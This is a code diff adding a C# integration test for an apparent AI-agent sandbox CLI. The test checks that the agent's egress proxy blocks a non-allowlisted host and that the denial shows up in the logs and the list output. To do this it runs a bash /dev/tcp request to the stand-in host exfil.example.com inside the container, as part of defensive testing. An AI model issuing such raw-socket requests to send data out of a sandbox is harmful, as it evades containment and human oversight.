@@ -1,3 +1,4 @@
+using System.Diagnostics;
 using System.Text.Json;
 
 namespace BotBottle.Cli.Tests.Commands;
@@ -62,6 +63,35 @@ public sealed class CliTests(RunningServices services) : IClassFixture<RunningSe
 
         var logs = await Cli.RunAsync(null, ["logs", slug, .. Server]);
         Assert.Contains("[running]", logs.Stdout, StringComparison.Ordinal);
+        await StopAsync(slug);
+    }
+
+    [Fact]
+    public async Task Logs_and_list_show_what_the_egress_proxy_denied()
+    {
+        var started = await Cli.RunAsync(null, ["start", "claude", "--label", "leaky", "--detach", .. Server]);
+        Assert.True(started.ExitCode == 0, started.Stderr);
+        var slug = started.Stdout.Trim();
+
+        // The agent tries a host its manifest entry does not allow, through its proxy as any tool would.
+        using (var attempt = Process.Start(new ProcessStartInfo("docker", ["exec", $"botbottle-{slug}", "bash", "-c",
+            "proxy=${HTTP_PROXY#http://}; exec 3<>/dev/tcp/${proxy%:*}/${proxy##*:}; printf 'GET http://exfil.example.com/ HTTP/1.1\\r\\nHost: exfil.example.com\\r\\nConnection: close\\r\\n\\r\\n' >&3; head -1 <&3"]) { RedirectStandardOutput = true })!)
+        {
+            Assert.StartsWith("HTTP/1.1 403", await attempt.StandardOutput.ReadToEndAsync(), StringComparison.Ordinal);
+            await attempt.WaitForExitAsync();
+        }
+
+        var deadline = DateTime.UtcNow.AddSeconds(30);
+        CliResult logs;
+        while (!(logs = await Cli.RunAsync(null, ["logs", slug, .. Server])).Stdout.Contains("[egress-denied]", StringComparison.Ordinal))
+        {
+            Assert.True(DateTime.UtcNow < deadline, $"no egress-denied line in the logs within 30 s:\n{logs.Stdout}");
+            await Task.Delay(300);
+        }
+
+        Assert.Contains("[egress-denied] denied GET exfil.example.com:80: not on the allowlist", logs.Stdout, StringComparison.Ordinal);
+        var plain = await Cli.RunAsync(null, ["list", .. Server]);
+        Assert.Contains("1 egress denied", plain.Stdout, StringComparison.Ordinal);
         await StopAsync(slug);
     }
 
